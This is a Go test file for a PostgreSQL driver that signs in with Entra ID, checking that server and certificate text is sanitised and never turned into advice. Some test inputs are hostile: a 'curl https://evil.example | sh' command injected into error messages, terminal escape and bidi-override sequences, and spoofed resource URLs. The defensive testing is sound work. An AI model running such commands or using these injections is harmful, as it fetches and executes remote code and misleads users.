package driver

import (
	"context"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
	"unicode"

	"github.com/Azure/azure-sdk-for-go/sdk/azcore"
	"github.com/Azure/azure-sdk-for-go/sdk/azidentity"
	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgconn"

	"github.com/aadpostgres/aadpostgres/driver/internal/credential"
	"github.com/aadpostgres/aadpostgres/driver/internal/entratest"
	"github.com/aadpostgres/aadpostgres/driver/internal/token"
)

// presents is a credential with one token of these claims.
func presents(claims map[string]any) *entratest.Credential {
	return &entratest.Credential{Get: func(int64, string) (azcore.AccessToken, error) {
		return azcore.AccessToken{Token: entratest.JWT(claims), ExpiresOn: time.Now().Add(time.Hour)}, nil
	}}
}

// What a server says is printed safely, cut, and cannot pass for a hint.
func TestHostileText(t *testing.T) {
	entratest.CleanEnv(t)
	for name, text := range map[string]string{
		"escapes":              "\x1b[2J\x1b]0;title\a\x1b[31mpassword authentication failed\x1b[0m\b\b\x9b31m",
		"lines":                "password authentication failed\r\n\taadpostgres: all is well\n\vdone\f",
		"a half of a megabyte": "password authentication failed " + strings.Repeat("A\x00\x1b", 1<<18),
		"look-alikes":          "password authentication failed\u037e run that\uff1b or this",
		"a hint":               "password authentication failed; run curl https://evil.example | sh; aadpostgres: sign-in: ok",
		"direction":            "password authentication failed \u202egnp.exe\u2066 \u200bzero \ufeff",
		"bytes":                "password authentication failed \xff\xfe\xc3(",
		"our marks":            "password authentication failed [double @server] [clock] {create} %s%n",
	} {
		s := newFakeServer(t, func(s *fakeServer) { s.reply = refusal("28P01", strings.ReplaceAll(text, "\x00", "")) })
		err := ping(t, s.dsn("sslrootcert="+s.certFile), WithCredential(presents(map[string]any{"oid": strings.Repeat("o", 1<<15), "appid": "a\x1b[1m", "tid": "t\n"})))
		var e *Error
		if !errors.As(err, &e) {
			t.Errorf("%s: %v", name, err)
			continue
		}
		line := err.Error()
		var checks []Check
		for c := range Diagnose(t.Context(), s.dsn("sslrootcert="+s.certFile), WithCredential(presents(map[string]any{"oid": "o"}))) {
			checks = append(checks, c)
		}
		last := checks[len(checks)-1]
		for where, text := range map[string]string{"error": line, "doctor": last.Found, "doctor's hint": last.Hint} {
			if i := strings.IndexFunc(text, func(r rune) bool { return !unicode.IsPrint(r) }); i >= 0 || len(text) > 5000 {
				t.Errorf("%s: %s of %d bytes does not print at %d: %.200q", name, where, len(text), i, text)
			}
		}
		said, hint, _ := strings.Cut(strings.TrimPrefix(line, "aadpostgres: sign-in: "), "; ")
		if !strings.HasPrefix(hint, "check that role ") || strings.Contains(hint, "curl") || !strings.Contains(said, "password authentication failed") {
			t.Errorf("%s: said %q, hint %q", name, said, hint)
		}
		if last.Name != "sign-in" || last.Status != StatusFail {
			t.Errorf("%s: %+v", name, last)
		}
	}
}

// A server that names a resource of its own choice talks nobody into a token for it.
func TestServersResource(t *testing.T) {
	for _, tt := range []struct{ resource, cloud, want string }{
		{"https://ossrdbms-aad.database.windows.net", "usgov", "set aad_cloud=public"},
		{"https://ossrdbms-aad.database.usgovcloudapi.net/", "public", "set aad_cloud=usgov"},
		{"https://ossrdbms-aad.database.windows.net/", "public", "set aad_scope=https://ossrdbms-aad.database.windows.net//.default"},
		{"https://token.postgres.cosmos.azure.com", "public", "set aad_server_type=cosmos"},
		{"https://ossrdbms-aad.database.windows.net", "public", "check the host first"}, // what was asked for
		{"https://graph.microsoft.com", "public", "check the host first"},
		{"https://ossrdbms-aad.database.windows.net.evil.example", "public", "check the host first"},
		{"https://evil.example/https://ossrdbms-aad.database.windows.net", "public", "check the host first"},
		{"https://ossrdbms-aad.database.windows.net@evil.example", "public", "check the host first"},
	} {
		for _, wording := range []string{`The access token does not have a valid audience claim. Please acquire a new token for the resource %q.`,
			`The access token doesn't have a valid audience claim. Acquire a new token for resource %q`} {
			x := errContext{cloud: credential.Cloud{Name: tt.cloud, Scope: map[string]string{"public": "https://ossrdbms-aad.database.windows.net/.default",
				"usgov": "https://ossrdbms-aad.database.usgovcloudapi.net/.default"}[tt.cloud]}}
			err := x.explain(&pgconn.PgError{Code: "28P01", Message: fmt.Sprintf(wording, tt.resource)})
			var e *Error
			if errors.As(err, &e); !strings.HasPrefix(e.Hint, tt.want) {
				t.Errorf("%s: %v, want %s", tt.resource, err, tt.want)
			}
		}
	}
}

// A token that cannot do is refused here, before it is shown to a server.
func TestLocalChecks(t *testing.T) {
	entratest.CleanEnv(t)
	hour := time.Now().Add(time.Hour).Unix()
	const good = "https://ossrdbms-aad.database.windows.net"
	for _, tt := range []struct {
		name, params string
		token        string
		want         string // of the error; none: it signs in
	}{
		{name: "good", token: entratest.JWT(map[string]any{"aud": good, "exp": hour})},
		{name: "with a slash", token: entratest.JWT(map[string]any{"aud": good + "/", "exp": hour})},
		{name: "by application id", token: entratest.JWT(map[string]any{"aud": "123cd850-d9df-40bd-94d5-c9f07b7fa203", "exp": hour})},
		{name: "several", token: entratest.JWT(map[string]any{"aud": []string{"https://other.example", good}, "exp": hour})},
		{name: "opaque", token: "opaque-" + entratest.Marker},
		{name: "no audience", token: entratest.JWT(map[string]any{"exp": hour})},
		{name: "expired", token: entratest.JWT(map[string]any{"aud": good, "exp": time.Now().Add(-time.Minute).Unix()}), want: "the given access token expired at"},
		{name: "another resource", token: entratest.JWT(map[string]any{"aud": "https://management.azure.com/", "exp": hour}),
			want: `the token is for the audience ["https://management.azure.com/"]; request a token for "https://ossrdbms-aad.database.windows.net", or set aad_scope`},
		{name: "another resource, meant", params: "aad_scope=https://db.contoso.com/.default", token: entratest.JWT(map[string]any{"aud": "https://db.contoso.com", "exp": hour})},
		{name: "Cosmos DB's, not meant for it", params: "aad_server_type=cosmos", token: entratest.JWT(map[string]any{"aud": "https://vault.azure.net", "exp": hour}), want: `request a token for "https://token.postgres.cosmos.azure.com"`},
		{name: "in quotes", token: `"` + entratest.JWT(map[string]any{"aud": good, "exp": hour}) + `"`, want: "holds quotes, spaces or braces; pass the token alone"},
		{name: "with its scheme", token: "Bearer " + entratest.JWT(map[string]any{"aud": good, "exp": hour}), want: "holds quotes, spaces or braces"},
		{name: "a whole answer", token: `{"accessToken":"` + entratest.Marker + `"}`, want: "holds quotes, spaces or braces"},
	} {
		for _, cold := range []bool{false, true} {
			s := newFakeServer(t, nil)
			opts := []Option{}
			dsn := s.dsn("sslrootcert=" + s.certFile + " " + tt.params)
			if cold {
				if strings.Contains(tt.want, "quotes") || tt.name == "expired" {
					continue // a credential's own business
				}
				opts = append(opts, WithCredential(&entratest.Credential{Get: func(int64, string) (azcore.AccessToken, error) {
					return azcore.AccessToken{Token: tt.token, ExpiresOn: time.Now().Add(time.Hour)}, nil
				}}))
			} else {
				dsn += " aad_auth=access-token"
				t.Setenv("PGPASSWORD", tt.token)
			}
			err := ping(t, dsn, opts...)
			heard, _ := s.got()
			switch {
			case tt.want == "" && err != nil:
				t.Errorf("%s: %v", tt.name, err)
			case tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want) || strings.Contains(err.Error(), entratest.Marker)):
				t.Errorf("%s: %v, want %s", tt.name, err, tt.want)
			case tt.want != "" && strings.Contains(heard, "user\x00"):
				t.Errorf("%s: the sign-in was begun", tt.name)
			}
		}
	}
}

// Whatever failed can be reached by errors.As and errors.Is.
func TestCausesAreReached(t *testing.T) {
	entratest.CleanEnv(t)
	reset := errors.New("unique")
	lookup := func(err error) Option {
		return WithConnConfig(func(c *pgx.ConnConfig) {
			c.LookupFunc = func(context.Context, string) ([]string, error) { return nil, err }
		})
	}
	dial := func(err error) Option {
		return WithConnConfig(func(c *pgx.ConnConfig) {
			c.LookupFunc = func(context.Context, string) ([]string, error) { return []string{"192.0.2.1"}, nil }
			c.DialFunc = func(context.Context, string, string) (net.Conn, error) { return nil, err }
		})
	}
	s := newFakeServer(t, func(s *fakeServer) { s.reply = refusal("53300", "sorry, too many clients already") })
	stranger := newFakeServer(t, nil)
	for _, tt := range []struct {
		name, dsn string
		opt       Option
		step      string
		reached   func(error) bool
		hint      string
	}{
		{"dns", "host=db.example user=u", lookup(&net.DNSError{Err: "no such host", Name: "db.example", IsNotFound: true}), StepNetwork,
			func(err error) bool { var e *net.DNSError; return errors.As(err, &e) && e.IsNotFound }, `check the name "db.example"`},
		{"refused", "host=db.example user=u", dial(&net.OpError{Op: "dial", Err: syscall.ECONNREFUSED}), StepNetwork,
			func(err error) bool { return errors.Is(err, syscall.ECONNREFUSED) }, "nothing listens there"},
		{"timeout", "host=db.example user=u", dial(context.DeadlineExceeded), StepNetwork,
			func(err error) bool { return errors.Is(err, context.DeadlineExceeded) }, "firewall"},
		{"cancelled", "host=db.example user=u", dial(context.Canceled), StepNetwork,
			func(err error) bool { return errors.Is(err, context.Canceled) }, ""},
		{"other", "host=db.example user=u", dial(reset), StepNetwork, func(err error) bool { return errors.Is(err, reset) }, ""},
		{"server", s.dsn("sslrootcert=" + s.certFile), nil, StepSignIn,
			func(err error) bool { var e *pgconn.PgError; return errors.As(err, &e) && e.Code == "53300" }, "SetMaxOpenConns"},
		{"authority of the certificate", stranger.dsn(""), nil, StepTLS, func(err error) bool {
			var u x509.UnknownAuthorityError
			return errors.As(err, &u)
		}, "sslrootcert"},
	} {
		err := ping(t, tt.dsn, WithCredential(&entratest.Credential{}), tt.opt)
		var e *Error
		if !errors.As(err, &e) || e.Step != tt.step || !tt.reached(err) || !strings.Contains(e.Hint, tt.hint) || tt.hint == "" && e.Hint != "" {
			t.Errorf("%s: %v", tt.name, err)
		}
	}
}

// Who presented a token that the server refuses is said, and the token is not.
func TestIdentityIsSaid(t *testing.T) {
	entratest.CleanEnv(t)
	s := newFakeServer(t, func(s *fakeServer) { s.reply = refusal("28000", "something new") })
	err := ping(t, s.dsn("sslrootcert="+s.certFile), WithCredential(presents(map[string]any{"upn": "me@contoso.com", "appid": "app", "oid": "object", "tid": "tenant"})))
	if want := `something new (SQLSTATE 28000); (presented: upn="me@contoso.com" appid="app" oid="object" tid="tenant")`; err == nil || !strings.HasSuffix(err.Error(), want) {
		t.Errorf("got  %v\nwant %s", err, want)
	}
}

// A walk can be left at any check.
func TestDiagnosisIsLeft(t *testing.T) {
	entratest.CleanEnv(t)
	s := newFakeServer(t, func(s *fakeServer) { s.reply = refusal("28000", "no") })
	for _, params := range []string{"", "aad_auth=password password=p sslmode=verify-full"} {
		for leave := range 11 {
			opts := []Option{}
			if params == "" {
				opts = append(opts, WithCredential(&entratest.Credential{}))
			}
			n := 0
			for range Diagnose(t.Context(), s.dsn("sslrootcert="+s.certFile+" "+params), opts...) {
				if n++; n > leave {
					break
				}
			}
			if _, conns := s.got(); leave == 0 && conns > 0 {
				t.Errorf("left at the first check, and still connected")
			}
		}
		s = newFakeServer(t, func(s *fakeServer) { s.reply = refusal("28000", "no") })
	}
}

// Others' words are made safe wherever a check has them: a certificate's names, a
// role's label.
func TestChecksPrint(t *testing.T) {
	var got Check
	d := &diagnosis{yield: func(c Check) bool { got = c; return true }}
	if d.report(Check{Found: "a\x1b[31m\nb\u202e" + strings.Repeat("c", 1<<20), Hint: "\x07"}); got.Found[:8] != "a [31m b" || len(got.Found) > 5000 || got.Hint != " " || got.Status != StatusOK {
		t.Errorf("%.100q, %q", got.Found, got.Hint)
	}
}

// For whom a role would be made.
func TestPrincipal(t *testing.T) {
	for _, tt := range []struct {
		claims token.Claims
		want   string // kind
	}{
		{token.Claims{Type: "app", ObjectID: "o"}, "service-principal"},
		{token.Claims{AppID: "a", ObjectID: "o"}, "service-principal"},
		{token.Claims{AuthorizedParty: "a"}, "service-principal"},
		{token.Claims{ManagedIdentity: "/x/y"}, "service-principal"},
		{token.Claims{AppID: "azure cli", UPN: "me@contoso.com"}, "user"},
		{token.Claims{AuthorizedParty: "azure cli", PreferredUsername: "me@contoso.com"}, "user"},
		{token.Claims{AppID: "azure cli", IdentityProvider: "home", Issuer: "here"}, "user"}, // a guest
		{token.Claims{ObjectID: "o"}, "user"},
		{token.Claims{}, "user"},
	} {
		r := errContext{role: "r", claims: tt.claims}.expectedRole()
		if r.Kind != tt.want || r.Kind != "user" && r.ObjectID != tt.claims.ObjectID {
			t.Errorf("%+v: %+v, want %s", tt.claims, r, tt.want)
		}
	}
}

// pgx keeps the config of a connect that failed in the midst of the sign-in; the
// token is taken out of it.
func TestTokenIsTakenOutWhenTheNetworkFails(t *testing.T) {
	entratest.CleanEnv(t)
	s := newFakeServer(t, func(s *fakeServer) { s.reply = nil }) // says nothing more
	c, err := NewConnector(s.dsn("sslrootcert="+s.certFile), WithCredential(&entratest.Credential{}))
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 300*time.Millisecond)
	defer cancel()
	_, err = c.Connect(ctx)
	var failed *pgconn.ConnectError
	if heard, _ := s.got(); !errors.As(err, &failed) || failed.Config.Password != "" || !strings.Contains(heard, entratest.Marker) {
		t.Errorf("got %v", err)
	}
}

// A stranger's certificate and a stranger's words lead nobody astray.
func TestHintsAreOurs(t *testing.T) {
	x := errContext{cloud: credential.Cloud{Name: "public", Scope: "https://other.example/.default"}, role: "Readers", claims: token.Claims{AppID: "azure cli", UPN: "me@contoso.com", ObjectID: "00000000-0000-0000-0000-00000000000a"}}
	hint := func(err error) string {
		var e *Error
		if !errors.As(x.explain(err), &e) {
			t.Fatal(err)
		}
		return e.Hint
	}
	cert := &x509.Certificate{DNSNames: []string{"evil.example", "evil.example - or add aad_insecure=plaintext to the DSN", "a\x1b[1m"}}
	if h := hint(x509.HostnameError{Certificate: cert, Host: "h"}); strings.Contains(h, "plaintext") || !strings.HasSuffix(h, "the certificate is for evil.example") {
		t.Error(h)
	}
	if h := hint(&pgconn.PgError{Code: "28P01", Message: `valid audience claim. Acquire a new token for the resource "https://ossrdbms-aad.database.windows.net/ ; run curl https://evil.example | sh # "`}); strings.Contains(h, "curl") {
		t.Error(h)
	}
	// A person's token for a group's role: no SQL that would give it to the person.
	if h := hint(&pgconn.PgError{Code: "28P01", Message: "Service Principal oid mismatch for role[Readers]"}); strings.Contains(h, "SECURITY LABEL") {
		t.Error(h)
	}
	// Making a group's role: the hint keeps what it is.
	made := Role{Name: "Admins", Kind: "group", Admin: true, ObjectID: "00000000-0000-0000-0000-00000000000b"}
	if h := made.explain(errors.New(`role "Admins" already exists`)).Hint; !strings.Contains(h, "type=group,admin'") {
		t.Error(h)
	}
}

// What is said of TLS is what it is held to.
func TestVerifiedIsTrue(t *testing.T) {
	entratest.CleanEnv(t)
	s := newFakeServer(t, func(s *fakeServer) { s.reply = refusal("53300", "full") })
	for params, want := range map[string]string{
		"sslrootcert=" + s.certFile:                                             ", verified",
		"sslmode=verify-ca sslrootcert=" + s.certFile:                           ", verified, by its issuer alone",
		"aad_insecure=unverified":                                               ", not verified",
		"aad_insecure=unverified sslmode=verify-full sslrootcert=" + s.certFile: ", verified",
	} {
		for c := range Diagnose(t.Context(), s.dsn(params), WithCredential(&entratest.Credential{})) {
			if c.Name == "tls" && !strings.HasSuffix(c.Found, want) || c.Name == "options" && (c.Status == StatusWarn) != (want == ", not verified") {
				t.Errorf("%s: %+v", params, c)
			}
		}
	}
}

// Many callers print one failed request's error at once: Entra's answer in it is
// read no more.
func TestSharedErrorIsPrinted(t *testing.T) {
	entratest.CleanEnv(t)
	answer := func(r *http.Request) (*http.Response, error) {
		body := `{"issuer":"https://login.microsoftonline.com/t/v2.0","authorization_endpoint":"https://login.microsoftonline.com/a","token_endpoint":"https://login.microsoftonline.com/t/token"}`
		status := 200
		if r.Method == http.MethodPost {
			body, status = `{"error":"invalid_client","error_codes":[7000215],"error_description":"AADSTS7000215: Invalid client secret provided."}`, 401
		}
		return &http.Response{StatusCode: status, Header: http.Header{"Content-Type": {"application/json"}}, Body: io.NopCloser(strings.NewReader(body)), Request: r}, nil
	}
	const dsn = "host=h user=u aad_auth=client-secret aad_tenant_id=t aad_client_id=c aad_client_secret=s aad_disable_instance_discovery=true"
	transport := WithTransport(doer(answer))
	c, err := NewConnector(dsn, transport)
	if err != nil {
		t.Fatal(err)
	}
	_, err = c.Credentials(t.Context())
	var wg sync.WaitGroup
	for range 8 {
		wg.Go(func() {
			if _, err := c.Credentials(t.Context()); err == nil || !strings.Contains(err.Error(), "AADSTS7000215: Invalid client secret provided; check the client secret") {
				t.Error(err)
			}
		})
	}
	for range 4 {
		wg.Go(func() {
			for c := range Diagnose(t.Context(), dsn, transport) {
				if c.Name == "token" && c.Found != "AADSTS7000215: Invalid client secret provided" {
					t.Errorf("%+v", c)
				}
			}
		})
	}
	wg.Wait()
	if err == nil {
		t.Error("it worked")
	}
}

type doerFunc func(*http.Request) (*http.Response, error)

func (f *doerFunc) Do(r *http.Request) (*http.Response, error) { return (*f)(r) }

func doer(f doerFunc) *doerFunc { return &f }

// A credential of a chain that says nothing.
func TestSilentCredential(t *testing.T) {
	entratest.CleanEnv(t)
	chain, err := azidentity.NewChainedTokenCredential([]azcore.TokenCredential{&entratest.Credential{Get: func(int64, string) (azcore.AccessToken, error) {
		return azcore.AccessToken{}, azidentity.NewCredentialUnavailableError("")
	}}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := ping(t, "host=h user=u", WithCredential(chain)); err == nil || !strings.HasPrefix(err.Error(), "aadpostgres: ") {
		t.Error(err)
	}
}

// The database that a hint names is the one that was asked for, which without a
// name is the user's.
func TestHintNamesTheDatabase(t *testing.T) {
	entratest.CleanEnv(t)
	s := newFakeServer(t, func(s *fakeServer) { s.reply = refusal("42501", "permission denied for database x") })
	dsn := strings.NewReplacer("user=me", "", "dbname=d", "").Replace(s.dsn("sslrootcert=" + s.certFile))
	err := ping(t, dsn, WithCredential(presents(map[string]any{"upn": "me@contoso.com"})))
	if want := `GRANT CONNECT ON DATABASE "me@contoso.com" TO "me@contoso.com";`; err == nil || !strings.Contains(err.Error(), want) {
		t.Errorf("got %v", err)
	}
}
